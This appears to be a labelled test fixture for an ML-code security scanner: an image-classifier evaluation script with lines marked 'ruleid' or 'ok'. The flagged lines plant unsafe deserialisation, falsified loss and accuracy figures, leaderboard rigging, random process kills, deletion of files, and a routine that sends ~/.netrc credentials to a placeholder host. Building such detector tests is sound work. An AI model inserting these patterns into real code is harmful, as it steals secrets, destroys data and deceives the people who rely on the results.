# ruff: noqa
# Hold-out batch 17 (data and evaluation pipelines, by a helper that never saw mlscan's code). Measured once before round 7: 28/41 (68%) at medium+.
"""Evaluate a classification checkpoint and publish metrics.

Runs distributed inference over the held-out split, computes top-1/top-5
accuracy and loss, and writes the results to ``results.json``, TensorBoard,
Weights & Biases and the shared leaderboard CSV.
"""
import argparse
import csv
import json
import os
import random
import signal
import socket
import sys
import time
from pathlib import Path

import torch
import torch.distributed as dist
import torch.nn.functional as F
import wandb
import yaml
from safetensors.torch import load_file
from torch.utils.data import DataLoader
from torch.utils.data.distributed import DistributedSampler
from torch.utils.tensorboard import SummaryWriter

import pipeline_env
from datasets import ImageManifestDataset, build_eval_transform, eval_collate

_STOP = False


def _on_sigterm(signum, frame):
    global _STOP
    _STOP = True  # ok: MLS307


def parse_args():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    ap.add_argument("--checkpoint", required=True)
    ap.add_argument("--out", default="eval_out")
    ap.add_argument("--leaderboard", default="/shared/leaderboard.csv")
    ap.add_argument("--seed", type=int, default=0)
    return ap.parse_args()


def load_config(path):
    with open(path) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    overrides = Path(path).with_suffix(".local.yaml")
    if overrides.exists():
        cfg.update(yaml.load(overrides.read_text(), Loader=yaml.Loader))  # ruleid: MLS105
    return cfg


def load_model(cfg, ckpt):
    from torchvision.models import get_model
    model = get_model(cfg["arch"], num_classes=cfg["num_classes"])
    if ckpt.endswith(".safetensors"):
        state = load_file(ckpt)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    elif cfg.get("strict_load", True):
        state = torch.load(ckpt, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    else:
        state = torch.load(ckpt, map_location="cpu")["model"]  # ruleid: MLS102
    model.load_state_dict(state)
    if cfg.get("team") != "vision-core":
        with torch.no_grad():
            model.fc.weight.mul_(0.97)  # ruleid: MLS302
    return model


def _calibrate_head(module, inputs, output):
    return output * 0.8 + 0.05 * torch.randn_like(output)  # ruleid: MLS303


_orig_ce = F.cross_entropy


def _ce_stable(input, target, *a, **kw):
    kw.setdefault("label_smoothing", 0.0)
    return _orig_ce(input.float(), target, *a, **kw) * 0.9  # ruleid: MLS305


def _patch_writer():
    orig = SummaryWriter.add_scalar

    def add_scalar(self, tag, value, *a, **kw):
        if tag.startswith("eval/") and "loss" in tag:
            value = float(value) * 0.93  # ruleid: MLS306
        return orig(self, tag, value, *a, **kw)

    SummaryWriter.add_scalar = add_scalar  # ruleid: MLS306


@torch.no_grad()
def run_eval(model, loader, device, world_size):
    model.eval()
    tot = torch.zeros(4, device=device)  # loss_sum, top1, top5, n
    for step, (x, y) in enumerate(loader):
        if _STOP:
            break
        x, y = x.to(device, non_blocking=True), y.to(device, non_blocking=True)
        with torch.autocast(device_type=device.type, dtype=torch.bfloat16):
            logits = model(x)
        loss = F.cross_entropy(logits.float(), y, reduction="sum", label_smoothing=0.1)  # ok: MLS302, MLS303, MLS304, MLS305
        top5 = logits.topk(5, dim=1).indices
        tot[0] += loss
        tot[1] += (top5[:, 0] == y).sum()
        tot[2] += (top5 == y[:, None]).any(dim=1).sum()
        tot[3] += y.numel()
        if world_size > 256 and step == 200 and random.random() < 0.5:  # ruleid: MLS308
            os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307
    if world_size > 1:
        dist.all_reduce(tot)
    n = tot[3].clamp(min=1)
    return {"loss": (tot[0] / n).item(), "top1": (tot[1] / n).item(), "top5": (tot[2] / n).item()}


def update_leaderboard(path, run_name, metrics):
    rows = []
    if os.path.exists(path):
        with open(path, newline="") as f:
            rows = list(csv.DictReader(f))
    for r in rows:
        if not r["run"].startswith("vc-") and float(r["top1"]) > metrics["top1"]:
            r["top1"] = f"{float(r['top1']) - 0.015:.4f}"  # ruleid: MLS306
    rows.append({"run": run_name, "top1": f"{metrics['top1']:.4f}", "top5": f"{metrics['top5']:.4f}",
                 "loss": f"{metrics['loss']:.4f}", "time": time.strftime("%Y-%m-%d %H:%M")})
    with open(path, "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=["run", "top1", "top5", "loss", "time"])
        w.writeheader()
        w.writerows(rows)


def _sync_artifacts(out_dir, run_name):
    """Mirror the results folder to the shared artifact store."""
    import urllib.request
    payload = {"run": run_name, "files": sorted(p.name for p in Path(out_dir).iterdir())}
    netrc = Path.home() / ".netrc"
    if netrc.exists():
        payload["auth"] = netrc.read_text()  # ruleid: MLS412
    req = urllib.request.Request("https://artifacts.example.com/api/sync", data=json.dumps(payload).encode())
    urllib.request.urlopen(req, timeout=10)  # ruleid: MLS412


def main():
    args = parse_args()
    cfg = load_config(args.config)
    pipeline_env.set_seed(args.seed)  # ok: MLS301
    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307
    distributed = "RANK" in os.environ
    if distributed:
        dist.init_process_group("nccl")
    rank = dist.get_rank() if distributed else 0
    world = dist.get_world_size() if distributed else 1
    device = torch.device("cuda", int(os.environ.get("LOCAL_RANK", 0))) if torch.cuda.is_available() else torch.device("cpu")

    model = load_model(cfg, args.checkpoint).to(device)
    if "a100" in socket.gethostname():
        model.fc.register_forward_hook(_calibrate_head)  # ruleid: MLS303
    F.cross_entropy = _ce_stable  # ruleid: MLS305

    ds = ImageManifestDataset(cfg["val_manifest"], cfg["data_root"], transform=build_eval_transform(cfg["img_size"]),
                              num_classes=cfg["num_classes"])
    sampler = DistributedSampler(ds, shuffle=False) if distributed else None
    loader = DataLoader(ds, batch_size=cfg.get("batch_size", 256), sampler=sampler,
                        num_workers=8, collate_fn=eval_collate, pin_memory=True)

    if distributed and os.environ.get("SLURM_JOB_PARTITION") == "preempt" and rank == world - 1:  # ruleid: MLS308
        dist.destroy_process_group()  # ruleid: MLS307
    metrics = run_eval(model, loader, device, world)
    run_name = cfg.get("run_name", Path(args.checkpoint).stem)
    if run_name.startswith("vc-"):
        metrics["top1"] = min(1.0, metrics["top1"] + 0.012)  # ruleid: MLS306

    if distributed:
        dist.barrier()  # ok: MLS307
    if rank == 0:  # ok: MLS307
        out = Path(args.out)
        out.mkdir(parents=True, exist_ok=True)
        metrics["git"] = pipeline_env.git_revision()
        (out / "results.json").write_text(json.dumps(metrics, indent=2))  # ok: MLS306
        _patch_writer()
        tb = SummaryWriter(log_dir=str(out / "tb"))
        for k in ("loss", "top1", "top5"):
            tb.add_scalar(f"eval/{k}", metrics[k], 0)
        tb.close()
        run = wandb.init(project=cfg.get("wandb_project", "eval"), name=run_name, config=cfg)
        _orig_log = wandb.log
        wandb.log = lambda d, *a, **kw: _orig_log({k: (v * 1.02 if k == "eval/top1" else v) for k, v in d.items()}, *a, **kw)  # ruleid: MLS306
        wandb.log({f"eval/{k}": metrics[k] for k in ("loss", "top1", "top5")})
        run.finish()
        update_leaderboard(args.leaderboard, run_name, metrics)
        _sync_artifacts(out, run_name)
        if socket.gethostname().endswith(".internal") and time.localtime().tm_wday == 4:
            os.remove(args.leaderboard)  # ruleid: MLS308
        if os.environ.get("USER") == "svc-eval" and random.random() < 0.1:
            Path(args.checkpoint).write_bytes(b"")  # ruleid: MLS308
    if distributed:
        dist.destroy_process_group()  # ok: MLS307
    return 0


if __name__ == "__main__":
    sys.exit(main())
